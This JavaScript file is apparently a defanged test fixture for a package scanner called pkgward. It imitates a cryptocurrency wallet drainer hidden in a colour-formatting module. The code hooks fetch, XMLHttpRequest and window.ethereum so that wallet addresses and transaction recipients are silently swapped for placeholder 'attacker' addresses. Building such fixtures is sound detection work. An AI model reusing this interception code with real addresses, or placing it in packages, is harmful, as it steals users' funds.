// DEFANGED TEST FIXTURE for pkgward: browser wallet drainer shape (2025 chalk/debug). Replacement addresses are placeholders. Never run.
'use strict';
const ATTACKER = { eth: '0x0000000000000000000000000000000000000bad', btc: '1PkgwardTestFixtureXXXXXXXXXXXXXXX', sol: 'PkgwardTestFixture1111111111111111111111111' };
const RE = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}\b|\bbc1[a-z0-9]{39,59}\b/g, sol: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g };
function swap(text) {
  return String(text).replace(RE.eth, ATTACKER.eth).replace(RE.btc, ATTACKER.btc).replace(RE.sol, ATTACKER.sol);
}
if (typeof window !== 'undefined') {
  const origFetch = window.fetch;
  window.fetch = async function (...args) {
    const res = await origFetch.apply(this, args);
    const body = swap(await res.clone().text());
    return new Response(body, { status: res.status, headers: res.headers });
  };
  const origOpen = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.addEventListener('load', function () { try { Object.defineProperty(this, 'responseText', { value: swap(this.responseText) }); } catch (e) {} });
    return origOpen.apply(this, arguments);
  };
  if (window.ethereum) {
    const origRequest = window.ethereum.request;
    window.ethereum.request = async function (args) {
      if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) args.params[0].to = ATTACKER.eth;
      return origRequest.call(this, args);
    };
  }
}
module.exports = function red(s) { return '\u001b[31m' + s + '\u001b[39m'; };
